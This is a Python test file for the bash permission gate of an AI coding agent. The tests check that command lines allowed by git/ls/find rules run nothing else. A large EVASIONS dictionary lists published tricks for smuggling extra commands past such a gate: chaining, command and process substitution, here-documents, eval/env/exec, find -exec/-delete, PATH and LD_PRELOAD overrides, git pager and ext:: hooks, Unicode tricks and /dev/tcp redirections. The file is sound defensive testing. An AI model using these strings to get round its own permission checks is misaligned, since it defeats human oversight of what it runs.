"""Command lines against real bash: what the gate allows runs nothing and writes nothing but what the rules allow."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from claw.config import Rules
from claw.permissions.base import Decision
from claw.permissions.policy import PolicyGate
from claw.permissions.rules import RuleBook
from claw.tooling.base import Access, Effect
from claw.tooling.boundary import Boundary
from tests.security.shell_lines import Lines
from tests.security.shell_oracle import Bash, Ran

ALLOW = ("bash(git *)", "bash(ls)", "bash(find *)", "edit(./out)")
N_LINES = 500
# A line that a check of the beginnings alone would pass, and that runs or writes something else.
EVASIONS = {
    "list": "git status && evil", "semicolon": "git;evil", "pipe": "git|evil", "background": "git & evil",
    "newline": "git\nevil", "or": "git x || evil\nevil", "redirection": "git > other", "append": "git >> other",
    "clobber": "git >| other", "both": "git &> other", "duplicate": "git >&other", "read-write": "git 1<> other",
    "substitution": "git $(evil)", "quoted substitution": 'git "$(evil)"', "backticks": "git `evil`",
    "process substitution": "git <(evil)", "output process": "git > >(evil)", "comment": "git #\nevil",
    "here-document": "git <<EOF\n$(evil)\nEOF", "here-string": "git <<< $(evil)", "subshell": "(evil)",
    "after a here-document": "git <<'EOF'\nEOF\nevil", "tabs in a here-document": "git <<EOF\n\tEOF\nEOF\nevil",
    "continued": "git x \\\n; evil", "nested": "git $(git $(evil))", "in arithmetic": "git $((x[$(evil)]))",
    "in a parameter": "git ${x:-$(evil)}", "assigned": "x=$(evil) git", "path": "PATH=. git", "alone": "x=`evil`",
    "function": "git() { evil; }\ngit", "alias": "shopt -s expand_aliases\nalias git=evil\ngit", "eval": "eval evil",
    "env": "env evil", "bash -c": "bash -c evil", "xargs": "git | xargs evil", "find": "find . -exec evil {} +",
    "find deletes": "find present -delete", "find prints": "find . -fprint other", "timeout": "timeout 5 evil",
    "timeout shell": "timeout 5 bash -c 'git; evil'", "brace": "{evil,git}", "variable": "x=evil; $x",
    "glob": "touch evil; ev?l", "quotes": 'e"vi"l', "escape": "e\\vil", "ansi-c": "$'\\x65vil'", "exec": "exec evil",
    "trap": "trap evil EXIT", "command": "command evil", "builtin": "builtin eval evil", "coproc": "coproc evil; wait",
    "while": "while evil; do break; done", "case": "case $(evil) in *) git;; esac",
    "for": "for x in $(evil); do git; done",
    "if": "if git; then evil; fi", "test": "[ -v 'x[$(evil)]' ]", "double test": "[[ -v x[$(evil)] ]]",
    "arithmetic of a text": "x='y[$(evil)]'; ((x))", "printf": "printf -v 'x[$(evil)]' a", "array": "x=([$(evil)]=1)",
    "prompt": "x='$(evil)'; git ${x@P}", "hash": "hash -p evil git", "time": "time evil", "negated": "! evil",
    "not the end": "git <<EOF\nEOF \\\nEOF\nevil", "quoted end": "git << \"E\"\nE\nevil", "source": ". <(git; evil)",
    "words swallowed": "git > out evil; evil", "mapfile": "mapfile -C evil -c 1 x < present", "read": "read PATH",
    "after a number": "git 1>other", "closing": "git $(git)evil; evil",
    "comment in a substitution": "git $(git # )\nevil)",
}  # fmt: skip

Verdict = Callable[[str], bool]


def gate_allows(folder: Path) -> Verdict:
    folder = folder.resolve()
    gate = PolicyGate("ask", Boundary((folder,)), RuleBook(Rules(allow=ALLOW)), confined=True, cwd=folder)

    def allows(line: str) -> bool:
        access = Access(Effect.EXECUTE, reads_all=True, command=line, cwd=folder)
        return gate.judge("bash", access).decision is Decision.ALLOW

    return allows


def naive_allows(line: str) -> bool:
    """What several agents did: split at the operators, look at the first word."""
    firsts = [part.split()[:1] for part in re.split(r"&&|\|\||;|\||\n", line)]
    return all(first in (["git"], ["ls"], ["find"], []) for first in firsts)


def breaks_the_rules(ran: Ran) -> list[str]:
    """What happened that no rule in `ALLOW` allows; written independently of how the gate reads rules."""
    programs = [
        call
        for call in ran.programs
        if not (call[0] == "git" and call[1:2] != ("-c",)) and call != ("ls",)
    ]  # fmt: skip
    return [*map(str, programs), *(f"wrote {name!r}" for name in ran.written if name != "out")]


def test_what_is_allowed_runs_and_writes_nothing_else(tmp_path: Path) -> None:
    bash, allows, lines = Bash(tmp_path), gate_allows(tmp_path / "deep/down/work"), Lines(seed=4)
    n_allowed = n_ran = 0
    for _ in range(N_LINES):
        line = lines.next()
        if allows(line):
            ran = bash.run(line)
            assert not breaks_the_rules(ran), line
            n_allowed, n_ran = n_allowed + 1, n_ran + len(ran.programs)
    assert min(n_allowed, n_ran) > N_LINES / 8, "too little was allowed to prove anything"


@pytest.mark.parametrize("name", EVASIONS)
def test_a_published_evasion_is_not_allowed(name: str, tmp_path: Path) -> None:
    assert not gate_allows(tmp_path)(EVASIONS[name])


def test_the_oracle_sees_what_a_naive_splitter_lets_through(tmp_path: Path) -> None:
    bash = Bash(tmp_path)
    passed = {name: line for name, line in EVASIONS.items() if naive_allows(line)}
    broken = {name for name, line in passed.items() if breaks_the_rules(bash.run(line))}
    assert {"redirection", "substitution", "backticks", "process substitution", "find"} <= broken
    assert len(broken) > 10


LINE_BY_LINE = {
    "git status": True,
    "git log | git cat-file": True,
    "git commit -m 'a; b'": True,
    'git commit -m "$(git log)"': True,
    "git diff 2>&1 > out": True,
    "git diff > /dev/null 2>/dev/null": True,
    "echo a; true && ls": True,
    "timeout 60 git fetch": True,
    "for x in a b; do git add a; done": True,
    "if git diff; then ls; else git status; fi": True,
    "git log # evil": True,
    "git commit -F - <<'EOF'\n$(evil) `evil`\nEOF": True,
    "ls -a": False,
    "git -c core.pager=evil log": False,
    "git log --output=other": False,
    "git log --outp=other": False,
    "git clone ext::evil": False,
    "git rebase -x evil": False,
    "git $x": False,
    "/tmp/git status": False,
    "cd x && git status": False,
    "sudo git status": False,
    "ssh host git status": False,
    "LD_PRELOAD=x git": False,
    "git\r": False,
    "git\0": False,
    "git\u00a0status": False,
    "git \u202estatus": False,
    "ls \u2028": False,
    "ls\u00a0": False,
    " ls\n": True,
    "git status > /dev/tcp/host/80": False,
    "git < /dev/tcp/host/80": False,
    "": False,
}


@pytest.mark.parametrize("line", LINE_BY_LINE)
def test_ordinary_lines_are_decided(line: str, tmp_path: Path) -> None:
    assert gate_allows(tmp_path)(line) is LINE_BY_LINE[line]
